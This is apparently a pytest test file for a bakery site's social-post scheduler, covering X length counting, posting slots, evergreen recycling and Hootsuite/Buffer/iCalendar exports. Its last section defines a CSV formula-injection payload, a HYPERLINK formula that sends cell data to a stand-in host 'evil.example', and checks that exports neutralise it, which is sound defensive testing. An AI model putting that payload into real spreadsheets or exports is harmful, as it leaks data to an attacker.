"""The social schedule: texts within each platform's limit (X counted as X counts),
slots in the site timezone, evergreen recycling, the ledger, and the exports read back
(csv for Hootsuite and Buffer, icalendar for schedule.ics)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
from urllib.parse import parse_qs, urlsplit
from zoneinfo import ZoneInfo

import pytest
from conftest import DEMO_NOW
from icalendar import Calendar
from outreach_support import build_project, make_project, run_outreach, write_test_manifest

from outreach.posts import Post
from outreach.settings import PLATFORMS, SOCIAL_DEFAULTS
from outreach.social import (
    BUFFER_COLUMNS,
    HOOTSUITE_MAX_ROWS,
    RefusedError,
    check_row,
    compose,
    hashtags,
    slots_from,
    x_length,
)

NY = ZoneInfo("America/New_York")
HOOTSUITE_FORMAT = "%m/%d/%Y %H:%M"
BUFFER_FORMAT = "%Y-%m-%d %H:%M"



def social(project, *extra, now=DEMO_NOW):
    return run_outreach(project, "social", "--now", now, *extra)


def read_exports(folder):
    hootsuite, buffer = {}, {}
    for path in sorted(folder.glob("hootsuite-*.csv")):
        hootsuite[path.stem.removeprefix("hootsuite-")] = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    for path in sorted(folder.glob("buffer-*.csv")):
        buffer[path.stem.removeprefix("buffer-")] = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    return hootsuite, buffer


def post(**kwargs) -> Post:
    base = dict(
        id="https://www.hearthandhoney.example/blog/p/", url="https://www.hearthandhoney.example/blog/p/",
        title="A title", summary="A summary.", content_html="", slug="p",
        published=dt.datetime(2026, 11, 23, 8, tzinfo=NY), modified=dt.datetime(2026, 11, 23, 8, tzinfo=NY),
        image="https://www.hearthandhoney.example/images/p.jpg", tags=["sourdough", "bread tips"],
        channels=["blog", "x", "facebook", "instagram", "linkedin", "google-business"],
    )
    base.update(kwargs)
    return Post(**base)


# --- counting and composing ---------------------------------------------------------------


def test_x_length_counts_links_as_23_and_wide_characters_as_2():
    assert x_length("hello") == 5
    assert x_length("https://www.hearthandhoney.example/blog/a-very-long-slug-indeed/?utm_source=x") == 23
    assert x_length("see http://a.co and https://b.example/x") == 4 + 23 + 5 + 23
    assert x_length("example.com/path") == 23  # X links bare domains too
    assert x_length("パン") == 4  # CJK weighs 2
    assert x_length("…") == 2  # U+2026 lies outside X's light ranges
    assert x_length("café") == 4 and x_length("cafe\u0301") == 4  # NFC first
    assert x_length("🍞") == 2
    assert x_length("a" * 280) == 280


def test_hashtags_from_tags():
    assert hashtags(["custom cakes", "sourdough", "Sourdough", "2026", "gluten-free"], 5) == [
        "#CustomCakes", "#Sourdough", "#GlutenFree"]
    assert hashtags(["a", "b", "c"], 2) == ["#A", "#B"]


@pytest.mark.parametrize("platform", list(PLATFORMS))
def test_every_text_fits_its_platform_and_carries_utm(platform):
    long = post(title="How to " + "really " * 60 + "bake", summary="word " * 2000)
    composition = compose(long, platform)
    limit = PLATFORMS[platform]["limit"]
    length = x_length(composition.text) if platform == "x" else len(composition.text)
    assert length <= limit
    assert composition.link in composition.text and composition.link not in composition.message
    query = parse_qs(urlsplit(composition.link).query)
    assert query == {"utm_source": [platform], "utm_medium": ["social"], "utm_campaign": ["p"]}


def test_x_text_keeps_title_hashtags_and_link_when_they_fit():
    composition = compose(post(title="Croissant lamination explained"), "x")
    assert composition.text.startswith("Croissant lamination explained #Sourdough #BreadTips https://")
    assert x_length(composition.text) == len("Croissant lamination explained #Sourdough #BreadTips ") + 23


def test_instagram_needs_an_image():
    with pytest.raises(RefusedError, match="Instagram needs an image"):
        compose(post(image=None), "instagram")
    assert compose(post(image=None), "facebook").image is None


def test_check_row_refuses_past_times_and_long_texts():
    now = dt.datetime(2026, 11, 24, 12, tzinfo=NY)
    row = {"platform": "x", "at": "2026-11-24T11:00:00-05:00", "text": "hi", "image": None}
    assert "in the past" in check_row(row, now)
    row.update(at="2026-11-25T11:00:00-05:00", text="x" * 281)
    assert check_row(row, now) == "its text is 281 characters, over X's 280"
    row.update(text="x" * 256 + " https://example.com/" + "y" * 100)
    assert check_row(row, now) is None  # 256 + 1 + 23 = 280
    row.update(text="x" * 257 + " https://example.com/" + "y" * 100)
    assert "281 characters" in check_row(row, now)
    row.update(platform="instagram", text="ok")
    assert check_row(row, now) == "Instagram needs an image"


def test_slots_are_weekly_times_in_the_site_timezone_across_dst():
    conf = dict(SOCIAL_DEFAULTS, slots={"facebook": ["tue 10:00", "thu 10:00"]})
    start = dt.datetime(2026, 10, 29, 10, 0, tzinfo=NY)  # a Thursday, at the slot itself
    slots = list(slots_from(conf, "facebook", start, NY, days=7))
    assert [s.strftime("%a %Y-%m-%d %H:%M") for s in slots] == [
        "Thu 2026-10-29 10:00", "Tue 2026-11-03 10:00", "Thu 2026-11-05 10:00"]
    assert [s.utcoffset() for s in slots] == [dt.timedelta(hours=-4), dt.timedelta(hours=-5), dt.timedelta(hours=-5)]


# --- the command, on the demo ------------------------------------------------------------------


def test_demo_schedule_exports_what_buffer_and_hootsuite_accept(project):
    result = social(project)
    assert result.returncode == 0, result.stderr
    folder = project.reports / "social"
    now = dt.datetime.fromisoformat(DEMO_NOW).replace(tzinfo=NY)
    hootsuite, buffer = read_exports(folder)
    assert set(hootsuite) == set(buffer) and hootsuite, result.stdout
    # Only the post published in the last 14 days, on the platforms its plan names.
    assert set(hootsuite) == {"facebook", "google-business"}
    for platform, rows in hootsuite.items():
        assert 1 <= len(rows) <= HOOTSUITE_MAX_ROWS
        times = set()
        for row in rows:
            assert len(row) == 3  # date/time, message, link; no header row
            when = dt.datetime.strptime(row[0], HOOTSUITE_FORMAT).replace(tzinfo=NY)
            assert when.minute % 5 == 0 and when - now >= dt.timedelta(minutes=10)
            assert when not in times  # one message per time slot
            times.add(when)
            query = parse_qs(urlsplit(row[2]).query)
            assert query["utm_source"] == [platform] and query["utm_medium"] == ["social"]
            assert query["utm_campaign"] == ["reheating-bread-and-pastries"]
            assert row[2] not in row[1]
            assert len(row[1]) + 1 + 23 <= PLATFORMS[platform]["limit"]
        assert len({row[1] for row in rows}) == len(rows)  # no duplicate messages
    for platform, rows in buffer.items():
        assert tuple(rows[0].keys()) == BUFFER_COLUMNS
        for row in rows:
            dt.datetime.strptime(row["Posting Time"], BUFFER_FORMAT)
            assert len(row["Text"]) <= PLATFORMS[platform]["limit"]
            assert row["Image URL"].startswith("https://www.hearthandhoney.example/images/")
            assert "utm_source=" + platform in row["Text"]
    # Thursday 26 November: Facebook at 10:00 and Google at 09:00 (first slots after now).
    assert hootsuite["facebook"][0][0] == "11/26/2026 10:00"
    assert hootsuite["google-business"][0][0] == "11/26/2026 09:00"
    # schedule.ics: one event per exported post, read back with icalendar.
    calendar = Calendar.from_ical((folder / "schedule.ics").read_bytes())
    events = list(calendar.walk("VEVENT"))
    assert len(events) == sum(len(rows) for rows in hootsuite.values())
    starts = sorted(e.decoded("dtstart") for e in events)
    assert starts[0] == dt.datetime(2026, 11, 26, 9, 0, tzinfo=NY)
    assert all(str(e["uid"]).endswith("@www.hearthandhoney.example") for e in events)
    html = (folder / "index.html").read_text()
    assert "Reheating Bread and Pastries" in html and "<script" not in html


def test_running_again_changes_nothing(project):
    assert social(project).returncode == 0
    ledger = (project.state / "social.jsonl").read_bytes()
    files = {p.name: p.read_bytes() for p in (project.reports / "social").iterdir()}
    result = social(project)
    assert result.returncode == 0, result.stderr
    assert "Nothing new to schedule." in result.stdout
    assert (project.state / "social.jsonl").read_bytes() == ledger
    assert {p.name: p.read_bytes() for p in (project.reports / "social").iterdir()} == files


def test_a_post_is_never_scheduled_twice_on_a_platform(project):
    write_test_manifest(project, {"reheating-bread-and-pastries": {"channels": ["facebook", "x", "instagram"]}})
    assert social(project).returncode == 0
    # A week later, after a rebuild that reordered the feed: nothing new.
    feed = project.feed
    feed["items"].reverse()
    project.write_feed(feed)
    result = social(project, now="2026-11-30T12:00")
    assert "Nothing new to schedule." in result.stdout
    records = [json.loads(line) for line in (project.state / "social.jsonl").read_text().splitlines()]
    keys = [(r["post"], r["platform"]) for r in records if r["kind"] == "new"]
    assert len(keys) == len(set(keys)) == 3


def test_two_posts_take_successive_free_slots(project):
    write_test_manifest(project, {
        "reheating-bread-and-pastries": {"channels": ["x"]},
        "pumpkin-and-apple-bakes": {"channels": ["x"]},
        "otter-creek-mill": {"channels": ["x"]},
    })
    feed = project.feed
    for item in feed["items"]:
        if "pumpkin" in item["id"]:
            item["date_published"] = "2026-11-23T08:00:00-05:00"
    project.write_feed(feed)
    result = social(project)
    assert result.returncode == 0, result.stderr
    hootsuite, _ = read_exports(project.reports / "social")
    # X slots Mon/Wed/Fri 12:00; the older post first; Otter Creek (June) is past the 14-day lookback.
    assert [(row[0], urlsplit(row[2]).path) for row in hootsuite["x"]] == [
        ("11/25/2026 12:00", "/blog/reheating-bread-and-pastries/"),
        ("11/27/2026 12:00", "/blog/pumpkin-and-apple-bakes/"),
    ]


def test_evergreen_posts_fill_empty_slots_at_most_once_per_n_weeks(project):
    write_test_manifest(project, {
        slug: {"evergreen": True, "channels": ["linkedin"]}
        for slug in ("keep-sourdough-fresh", "croissant-lamination")
    })
    result = social(project)
    assert result.returncode == 0, result.stderr
    hootsuite, buffer = read_exports(project.reports / "social")
    # LinkedIn slots Tue/Thu 08:30 in the next 14 days: four, two posts, each at most once in 8 weeks.
    rows = hootsuite["linkedin"]
    assert len(rows) == 2
    assert {r[0] for r in rows} == {"11/26/2026 08:30", "12/01/2026 08:30"}
    assert all("evergreen" in row["Tags"] for row in buffer["linkedin"])
    # Three weeks later: still inside 8 weeks, nothing recycles.
    result = social(project, now="2026-12-15T12:00")
    assert "Nothing new to schedule." in result.stdout
    # Nine weeks later, they come back.
    result = social(project, now="2027-01-28T12:00")
    assert result.returncode == 0, result.stderr
    hootsuite, _ = read_exports(project.reports / "social")
    assert len(hootsuite["linkedin"]) == 2


def test_instagram_without_image_and_past_slots_are_refused_with_the_reason(project):
    write_test_manifest(project, {"reheating-bread-and-pastries": {"channels": ["instagram", "facebook"], "image": None}})
    feed = project.feed
    for item in feed["items"]:
        if "reheating" in item["id"]:
            item.pop("image", None)
    project.write_feed(feed)
    result = social(project)
    assert result.returncode == 1
    assert "on Instagram: Instagram needs an image" in result.stderr
    assert set(read_exports(project.reports / "social")[0]) == {"facebook"}
    # Exported later than its slot: refused, not exported.
    result = social(project, now="2026-11-27T12:00")
    assert result.returncode == 1
    assert "not exported, its time 2026-11-26 10:00 is in the past" in result.stderr
    assert read_exports(project.reports / "social")[0] == {}


def test_hootsuite_files_hold_at_most_350_rows(tmp_path):
    from outreach.settings import load_site
    from outreach.social import Result, Scheduler

    project = make_project(tmp_path / "site")
    site = load_site(project.settings)
    scheduler = Scheduler.__new__(Scheduler)
    scheduler.site, scheduler.conf, scheduler.reports = site, site.social, tmp_path / "out"
    start = dt.datetime(2027, 1, 4, 12, tzinfo=NY)
    scheduler.now = start
    rows = [
        {"post": f"p{i}", "platform": "x", "at": (start + dt.timedelta(hours=i)).isoformat(), "kind": "new",
         "slug": f"p{i}", "title": "T", "text": f"T {i}", "message": f"T {i}", "link": "https://x.example/", "image": None}
        for i in range(400)
    ]
    scheduler.write_exports(Result("b", exported={"x": rows}))
    first, second = (list(csv.reader(io.StringIO((tmp_path / "out" / name).read_text())))
                     for name in ("hootsuite-x.csv", "hootsuite-x-2.csv"))
    assert (len(first), len(second)) == (350, 50)
    assert len(list(csv.DictReader(io.StringIO((tmp_path / "out" / "buffer-x.csv").read_text())))) == 400


def test_bad_slot_settings_name_key_value_and_form(tmp_path):
    from outreach.errors import InputError
    from outreach.settings import load_site

    project = make_project(tmp_path / "site", "SOCIAL = dict(SOCIAL, slots={'x': ['tuesday 10:00', 'wed 10:07'], 'myspace': []})\n")
    with pytest.raises(InputError) as caught:
        load_site(project.settings)
    message = str(caught.value)
    assert "SOCIAL['slots']['x'] has 'tuesday 10:00'; expected a weekday and a 24-hour time, e.g. 'tue 10:00'" in message
    assert "'wed 10:07'; expected minutes ending in 0 or 5" in message
    assert "unknown platform 'myspace'" in message
    result = run_outreach(project, "social")
    assert result.returncode == 2 and "Traceback" not in result.stderr


# --- spreadsheet-safe exports ------------------------------------------------------------

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_a_formula_title_is_never_a_live_cell_in_the_buffer_and_hootsuite_csvs(tmp_path):
    """A post titled like a spreadsheet formula, built for real, scheduled by ``python -m outreach social``."""
    from conftest import ROOT

    content = tmp_path / "content"
    shutil.copytree(ROOT / "content", content)
    source = content / "posts" / "reheating-bread-and-pastries.md"
    text = source.read_text(encoding="utf-8")
    text = text.replace("Title: Reheating Bread and Pastries So They Taste Just-Baked", f"Title: {HOSTILE_TITLE}")
    text = text.replace("Description: Our guide", "Description: +Our guide")
    source.write_text(text, encoding="utf-8")
    project = make_project(tmp_path / "site", f"PATH = {str(content)!r}\n")
    build_project(project, DEMO_NOW)
    assert project.feed["items"][0]["title"] == HOSTILE_TITLE

    result = social(project)
    assert result.returncode == 0, result.stderr
    folder = project.reports / "social"
    paths = sorted(folder.glob("*.csv"))
    assert {p.name for p in paths} == {f"{kind}-{platform}.csv" for kind in ("buffer", "hootsuite")
                                       for platform in ("facebook", "google-business")}
    for path in paths:
        with path.open(encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))
        assert rows
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), (path.name, cell)
    hootsuite, buffer = read_exports(folder)
    # The text is kept, behind the apostrophe a spreadsheet shows as text.
    assert hootsuite["facebook"][0][1].startswith("'" + HOSTILE_TITLE + "\n\n+Our guide")
    assert buffer["facebook"][0]["Text"].startswith("'" + HOSTILE_TITLE)
    assert hootsuite["facebook"][0][2].startswith("https://")  # links and times are left as they are
    # The ledger and the preview keep the title as written.
    records = [json.loads(line) for line in (project.state / "social.jsonl").read_text().splitlines()]
    assert {r["title"] for r in records} == {HOSTILE_TITLE}


@pytest.mark.parametrize("start", FORMULA_STARTS + ("'",))
def test_every_formula_start_is_neutralised_in_both_csvs(start):
    from outreach.social import buffer_csv, hootsuite_csv

    row = {"at": "2026-11-26T10:00:00-05:00", "message": f"{start}1+1", "text": f"{start}1+1 https://x.example/",
           "link": "https://x.example/", "image": None, "slug": f"{start}slug", "kind": "new"}
    for data in (hootsuite_csv([row], NY, SOCIAL_DEFAULTS), buffer_csv([row], NY, SOCIAL_DEFAULTS)):
        rows = [r for r in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) if r != list(BUFFER_COLUMNS)]
        assert len(rows) == 1
        for cells in rows:
            assert all(not c.startswith(FORMULA_STARTS) for c in cells), cells
            assert any(c == f"'{start}1+1" or c.startswith(f"'{start}1+1 ") for c in cells), cells


@pytest.mark.parametrize("line", ["null", "[1, 2]", '{"type": "scheduled", "post": "https://x.example/p/"}',
                                  "{not json"], ids=["null", "a list", "scheduled without platform", "garbage"])
def test_a_social_ledger_line_of_the_wrong_shape_is_named_with_its_line(project, line):
    assert social(project).returncode == 0
    ledger = project.state / "social.jsonl"
    with ledger.open("a", encoding="utf-8") as fh:
        fh.write(line + "\n")
    before = ledger.read_bytes()
    number = len(before.splitlines())
    result = social(project)
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    assert f"{ledger}:{number}: not a valid ledger record" in result.stderr
    assert ledger.read_bytes() == before


@pytest.fixture
def project(outreach_project):
    return outreach_project
